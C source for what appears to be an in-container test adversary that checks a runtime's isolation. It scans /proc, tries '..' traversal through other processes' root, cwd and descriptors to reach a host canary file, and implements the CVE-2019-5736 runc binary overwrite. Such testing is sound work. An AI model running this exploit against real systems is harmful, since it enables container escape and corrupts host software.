/* A hostile program in a container: looks at every process that appears beside it, as long as it lives.
 *
 *   hunter files VICTIM OUT   tries to reach the host's file VICTIM through the root, the directory and the descriptors
 *                             of the process, and writes into OUT by which it has read it
 *   hunter exe OUT            opens the file that the process executes, tries for as long as it has it to open it for
 *                             writing, writes, and says so in OUT (CVE-2019-5736)
 */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *out;

static void tell(const char *text)
{
	int fd = open(out, O_WRONLY | O_CREAT | O_APPEND, 0644);
	if (fd < 0 || write(fd, text, strlen(text)) < 0 || write(fd, "\n", 1) < 0)
		_exit(1);
	close(fd);
}

/* Canaries begin with this word. */
static int reached(const char *path)
{
	char text[6] = { 0 };
	int fd = open(path, O_RDONLY | O_NONBLOCK | O_NOCTTY);
	if (fd < 0)
		return 0;
	ssize_t n = read(fd, text, 6);
	close(fd);
	return n == 6 && !memcmp(text, "canary", 6);
}

static int through(const char *base, const char *victim)
{
	char path[1024];
	const char *up[] = { "", "/..", "/../..", "/../../..", "/../../../..", "/../../../../../.." };
	for (unsigned i = 0; i < sizeof up / sizeof *up; i++) {
		snprintf(path, sizeof path, "%s%s%s", base, up[i], victim);
		if (reached(path)) {
			tell(path);
			return 1;
		}
	}
	return 0;
}

static void files(const char *pid, const char *victim)
{
	char path[512];
	snprintf(path, sizeof path, "/proc/%s/root", pid);
	through(path, victim);
	snprintf(path, sizeof path, "/proc/%s/cwd", pid);
	through(path, victim);
	snprintf(path, sizeof path, "/proc/%s/fd", pid);
	DIR *fds = opendir(path);
	if (!fds)
		return;
	for (struct dirent *e; (e = readdir(fds));) {
		if (e->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "/proc/%s/fd/%s", pid, e->d_name);
		/* A pipe or a terminal is no way out. */
		struct stat st;
		if (!stat(path, &st) && S_ISDIR(st.st_mode))
			through(path, victim);
	}
	closedir(fds);
}

static int held[64];
static unsigned count;

static void exe(const char *pid)
{
	char path[512];
	struct stat st, own, other;
	snprintf(path, sizeof path, "/proc/%s/exe", pid);
	int fd = open(path, O_RDONLY);
	if (fd < 0)
		return;
	if (fstat(fd, &st) || stat("/proc/self/exe", &own) || stat("/bin/busybox", &other) ||
	    (st.st_dev == own.st_dev && st.st_ino == own.st_ino) ||
	    (st.st_dev == other.st_dev && st.st_ino == other.st_ino) || count == 64) {
		close(fd);
		return;
	}
	for (unsigned i = 0; i < count; i++) {
		struct stat have;
		if (!fstat(held[i], &have) && have.st_dev == st.st_dev && have.st_ino == st.st_ino) {
			close(fd);
			return;
		}
	}
	held[count++] = fd;
}

static void overwrite(void)
{
	for (unsigned i = 0; i < count; i++) {
		char path[64];
		snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
		int fd = open(path, O_WRONLY);
		if (fd >= 0 && write(fd, "#!/bin/pwned\n", 13) == 13)
			tell("wrote to the runtime");
		if (fd >= 0)
			close(fd);
	}
}

int main(int argc, char **argv)
{
	int is_files = argc == 4 && !strcmp(argv[1], "files");
	if (!is_files && !(argc == 3 && !strcmp(argv[1], "exe")))
		return 2;
	out = argv[argc - 1];
	pid_t own = getpid();
	for (;;) {
		DIR *proc = opendir("/proc");
		if (!proc)
			return 1;
		for (struct dirent *e; (e = readdir(proc));) {
			if (!isdigit(e->d_name[0]) || atoi(e->d_name) == own || atoi(e->d_name) == 1)
				continue;
			if (is_files)
				files(e->d_name, argv[2]);
			else
				exe(e->d_name);
		}
		closedir(proc);
		if (!is_files)
			overwrite();
	}
}
